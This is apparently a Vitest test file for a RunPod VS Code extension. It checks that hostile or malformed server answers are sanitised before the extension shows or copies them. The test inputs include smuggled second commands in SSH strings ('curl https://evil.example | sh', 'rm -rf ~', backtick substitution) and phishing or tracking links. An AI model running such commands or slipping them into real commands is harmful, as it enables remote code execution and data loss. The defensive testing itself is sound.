/**
 * Answers of valid JSON in the wrong shape from a broken or hostile API server, through the parse
 * boundary (runpod/parse.ts, parseServerless.ts) to what the editor shows or copies: a field the
 * views trust to be a number or a one-line command must be one, or be dropped there.
 */
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { parsePod, parseSecret, parseTemplate, podSsh } from '../../client/src/runpod/parse';
import { podAllows } from '../../client/src/runpod/podStatus';
import { mementoPersistence } from '../../client/src/secrets/persistence';
import { buildView, MAX_SECRET_NODES, secretNode } from '../../client/src/views/nodes';
import { CatalogStore } from '../../server/src/lsp/catalog';
import { isSecretDescriptionAcceptable, SECRET_DESCRIPTION_MAX_BYTES } from '../../server/src/template/names';
import { parseEndpoint } from '../../client/src/runpod/parseServerless';
import { describePod } from '../../client/src/views/pods/podNodes';
import { describeEndpoint, describeWorker } from '../../client/src/views/endpoints/endpointNodes';

// VS Code renders tooltips as Markdown (untrusted: no command links, but https links and images).
const MarkdownIt = createRequire(__filename)('markdown-it') as new (options?: object) => { render(text: string): string; renderInline(text: string): string };
const markdown = new MarkdownIt();

const POD = { id: 'p1', name: 'train', status: 'RUNNING', actions: ['stop'] };
const LINKS = '![t](https://evil.example/track.png) [Open the console](https://evil.example/login)';

describe("a Pod's SSH command from the server", () => {
  it('is offered to copy only when it is one line without control characters: a pasted line break runs a second command', () => {
    for (const command of ['ssh root@203.0.113.5 -p 22\ncurl https://evil.example | sh', 'ssh x\r\ncurl evil', 'ssh x\u001b[2K', 'ssh x\u2028rm -rf ~']) {
      const pod = parsePod({ ...POD, ssh: { command } });
      expect(podSsh(pod.ssh)?.command, JSON.stringify(command)).toBeUndefined();
      expect(describePod(pod).contextValue).not.toMatch(/;ssh$/);
    }
    const plain = parsePod({ ...POD, ssh: { command: 'ssh root@203.0.113.5 -p 22022 -i ~/.ssh/id_ed25519', port: 22022 } });
    expect(plain.ssh).toEqual({ command: 'ssh root@203.0.113.5 -p 22022 -i ~/.ssh/id_ed25519', port: 22022 });
    expect(describePod(plain).contextValue).toMatch(/;ssh$/);
  });

  it('the tooltip shows the SSH command exactly as Copy SSH Command copies it, backticks included', () => {
    for (const command of ['ssh root@203.0.113.5 `curl https://evil.example|sh`', '`id` ssh x', 'ssh x ``a`` b`']) {
      const pod = parsePod({ ...POD, ssh: { command } });
      const html = markdown.render(describePod(pod).tooltip);
      const shown = /SSH: <code>([^<]*)<\/code>/.exec(html)?.[1];
      const decoded = shown?.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
      expect(decoded, command).toBe(command);
    }
  });

  it('of another type than text leaves the Pod listed without one, instead of breaking the Pods view', () => {
    for (const ssh of [{ command: 5 }, { command: ['ssh', 'x'] }, { command: { toString: 'x' } }, 'ssh x', 7]) {
      const pod = parsePod({ ...POD, ssh });
      expect(() => describePod(pod), JSON.stringify(ssh)).not.toThrow();
      expect(podSsh(pod.ssh)?.command).toBeUndefined();
    }
  });
});

describe("a Pod's ssh, cloud and actions RunPod sent in a shape the views cannot show", () => {
  it('are kept as sent for --json, and the views read only what shows as it is: no command, no cloud, the text actions', () => {
    const sent = { ssh: { command: 'a\nb', host: 'h' }, cloud: 5, actions: ['stop', 7] };
    const pod = parsePod({ ...POD, ...sent });
    expect({ ssh: pod.ssh, cloud: pod.cloud, actions: pod.actions }).toEqual(sent);
    const node = describePod(pod);
    expect(node.contextValue).toBe('runpod.pod.RUNNING;stop');
    expect(node.tooltip).not.toMatch(/SSH:|Cloud:/);
    // The sanitising rule: no control character of what RunPod sent reaches the tree.
    expect(node.tooltip).not.toContain('a\nb');
    expect([node.label, node.description, node.contextValue, ...node.tooltip.split('  \n')].join('')).not.toMatch(/[\u0000-\u001f]/);
    expect(podAllows(pod, 'stop')).toBe(true);
  });
});

describe("an endpoint's worker settings from the server", () => {
  it('an idle timeout that is no number forms no link or image in the tooltip; a number is shown', () => {
    const endpoint = parseEndpoint({ id: 'e1', name: 'api', workers: { min: 0, max: 2, idleTimeout: LINKS } });
    const html = markdown.render(describeEndpoint(endpoint).tooltip);
    expect(html).not.toMatch(/<a |<img /);
    expect(html).not.toContain('evil.example');
    expect(describeEndpoint(parseEndpoint({ id: 'e1', workers: { min: 0, max: 2, idleTimeout: 5 } })).tooltip).toContain('idle timeout 5 s');
  });
});

describe("a secret's description longer than RunPod holds (65,535 bytes)", () => {
  // 32 MB passes the transport's size cap: escaping it for one tooltip took 4 s of the extension
  // host (every extension's), on every render of the Secrets view, and 5 s per hover in the server.
  const huge = `Hugging Face token [docs](https://example.com) ${'x'.repeat(32_000_000)}`;
  const secret = { id: 's1', name: 'hf-token', createdAt: '2026-01-01T00:00:00Z', description: huge, valueLastUpdatedAt: null };

  it('is cut where it enters, to what RunPod can hold, with an ellipsis; one it can hold is kept whole', () => {
    const parsed = parseSecret(secret);
    expect(isSecretDescriptionAcceptable(parsed.description!)).toBe(true);
    expect(parsed.description!.startsWith('Hugging Face token [docs](https://example.com) xxx')).toBe(true);
    expect(parsed.description!.endsWith('…')).toBe(true);
    expect(secretNode(parsed).tooltip.length).toBeLessThan(100_000);
    const full = '€'.repeat(SECRET_DESCRIPTION_MAX_BYTES / 3);
    expect(parseSecret({ ...secret, description: full }).description).toBe(full);
  });

  it('a list kept in storage before is cut as it is read, and so is one a client sends the language server', () => {
    let stored: unknown = { lists: [{ account: 'default', apiUrl: 'https://api.runpod.io/v2', fetchedAt: '2026-01-02T00:00:00Z', secrets: [secret] }] };
    const memento = { get: <T>() => stored as T, update: async (_key: string, value: unknown) => void (stored = value) };
    const loaded = mementoPersistence(memento, () => ({ account: 'default', apiUrl: 'https://api.runpod.io/v2' })).load();
    expect(isSecretDescriptionAcceptable(loaded!.secrets[0]!.description!)).toBe(true);
    const catalog = new CatalogStore(() => undefined);
    catalog.update({ state: 'fresh', secrets: [{ name: 'hf-token', description: huge }] }, 'runpod/secretsChanged');
    expect(isSecretDescriptionAcceptable(catalog.catalog.secrets[0]!.description!)).toBe(true);
  });
});

describe('a secret name no RunPod secret can have, from the server', () => {
  it("the Secrets view's tooltip names it by the label rule and offers no reference to it (a 1 MB name was written out twice)", () => {
    const long = parseSecret({ id: 's2', name: 'a'.repeat(1_000_000), createdAt: '2026-01-01T00:00:00Z' });
    const tooltip = secretNode(long).tooltip;
    expect(tooltip.length).toBeLessThan(2_000);
    expect(tooltip).not.toContain('Reference:');
    // A name RunPod can have keeps its reference, written out whole.
    expect(secretNode(parseSecret({ id: 's3', name: 'hf-token', createdAt: '2026-01-01T00:00:00Z' })).tooltip).toContain('Reference: \\{\\{ RUNPOD\\_SECRET\\_hf-token \\}\\}');
  });
});

describe('a secret list of a million names from the server (valid JSON, inside the 32 MB cap)', () => {
  it('the Secrets view makes nodes for the first ones by name only, and says how many it left out and where to find them', () => {
    // In name order, as the store keeps every listing (SecretsStore sorts it once as it takes it).
    const secrets = Array.from({ length: 1_000_000 }, (_, i) => parseSecret({ id: `s${i}`, name: `name-${String(i).padStart(7, '0')}`, createdAt: '2026-01-01T00:00:00Z' }));
    const view = buildView({ kind: 'fresh', fetchedAt: '2026-01-02T00:00:00Z' }, secrets);
    expect(view.nodes).toHaveLength(MAX_SECRET_NODES);
    expect(view.nodes[0]).toMatchObject({ kind: 'secret', name: 'name-0000000' });
    expect(view.message).toBe("Showing the first 2,000 of 1,000,000 secrets by name; find any other with 'RunPod: View Secret'.");
    // A list within the bound shows whole, without a message.
    expect(buildView({ kind: 'fresh', fetchedAt: '2026-01-02T00:00:00Z' }, secrets.slice(0, MAX_SECRET_NODES)).message).toBeUndefined();
  }, 60_000);

  it("the view sorts nothing (the store's listing is in name order): each name is read once to fold it, and a render again reads only the shown names", () => {
    let reads = 0;
    const secrets = Array.from({ length: 100_000 }, (_, i) => {
      const secret = parseSecret({ id: `s${i}`, name: `name-${String(i).padStart(6, '0')}`, createdAt: '2026-01-01T00:00:00Z' });
      const name = secret.name;
      return Object.defineProperty(secret, 'name', { get: () => (reads++, name) });
    });
    const first = buildView({ kind: 'fresh', fetchedAt: '2026-01-02T00:00:00Z' }, secrets);
    // A sort, even of a sorted listing, reads two names per comparison: 200,000 more.
    expect(reads).toBeGreaterThanOrEqual(secrets.length);
    expect(reads).toBeLessThan(secrets.length + 10 * MAX_SECRET_NODES);
    reads = 0;
    const again = buildView({ kind: 'fresh', fetchedAt: '2026-01-02T00:00:00Z' }, secrets);
    expect(again.nodes).toEqual(first.nodes);
    // A few reads per node shown, none for the 98,000 names past them.
    expect(reads).toBeLessThan(10 * MAX_SECRET_NODES);
  }, 60_000);
});

describe('Pods, endpoints and workers whose text from the server runs to megabytes', () => {
  const big = 'x'.repeat(1_000_000);

  it('each field is cut in the tooltips and the label, and an SSH command too long to show whole is not offered to copy', () => {
    const pod = parsePod({ id: 'p1', name: big, image: big, status: big, cloud: big, gpu: { id: big, count: 1 }, ssh: { command: `ssh ${big}` } });
    expect(podSsh(pod.ssh)?.command).toBeUndefined();
    const podNode = describePod(pod);
    expect(podNode.tooltip.length).toBeLessThan(10_000);
    expect(podNode.label.length).toBeLessThanOrEqual(200);
    const endpoint = parseEndpoint({ id: 'e1', name: big, image: big, type: big, gpu: { pools: [big] } });
    const endpointNode = describeEndpoint(endpoint, [{ id: big, status: big, version: 1, isStale: false }]);
    expect(endpointNode.tooltip.length).toBeLessThan(10_000);
    expect(endpointNode.label.length).toBeLessThanOrEqual(200);
    expect(endpointNode.description.length).toBeLessThan(2_000);
    const workerNode = describeWorker(endpoint, { id: big, status: big, version: 1, isStale: false });
    expect(workerNode.tooltip.length).toBeLessThan(10_000);
    expect(workerNode.label.length).toBeLessThanOrEqual(200);
    expect(workerNode.description.length).toBeLessThan(300);
    // Ordinary text shows whole, as before.
    const plain = describePod(parsePod({ ...POD, image: 'runpod/pytorch:2.4.0-py3.11-cuda12.4.1-devel-ubuntu22.04', ssh: { command: 'ssh root@203.0.113.5 -p 22022' } }));
    expect(plain.tooltip).toContain('Image: runpod/pytorch:2.4.0-py3.11-cuda12.4.1-devel-ubuntu22.04');
    expect(plain.tooltip).toContain('ssh root@203.0.113.5 -p 22022');
  });
});

describe('a name from the server in a tooltip', () => {
  it('is shown by one rule in the Secrets, Pods and Endpoints views: the label rule (invisible characters as escapes, at most 200 characters), then escaped', () => {
    const name = `a\u200bb${'n'.repeat(5_000)}`;
    const shown = (tooltip: string) => {
      const first = tooltip.split('\n')[0]!;
      // The rendered text of the bold name: what the user reads.
      return markdown.renderInline(first.match(/^\*\*(?:Worker )?(.*?)\*\*/)![1]!);
    };
    const endpoint = parseEndpoint({ id: 'e1', name, workers: { min: 0, max: 1 } });
    const names = [
      shown(secretNode(parseSecret({ id: 's1', name, createdAt: '2026-01-01T00:00:00Z' })).tooltip),
      shown(describePod(parsePod({ ...POD, name })).tooltip),
      shown(describeEndpoint(endpoint).tooltip),
      shown(describeWorker(endpoint, { id: name, status: 'IDLE', version: 1, isStale: false }).tooltip),
    ];
    for (const text of names) {
      expect(text).toBe(names[0]);
      expect(text.startsWith('a\\u200bbnnn')).toBe(true);
      expect(text.length).toBeLessThanOrEqual(200);
    }
  });
});

describe('an env var named __proto__ from the server', () => {
  it('is a key of the template\'s env, written back by JSON.stringify (on a plain object it set the prototype and was dropped)', () => {
    const template = parseTemplate(JSON.parse('{"id":"t","name":"n","env":{"__proto__":"v","A":"a"}}'));
    expect(JSON.stringify(template.env)).toBe('{"__proto__":"v","A":"a"}');
  });
});
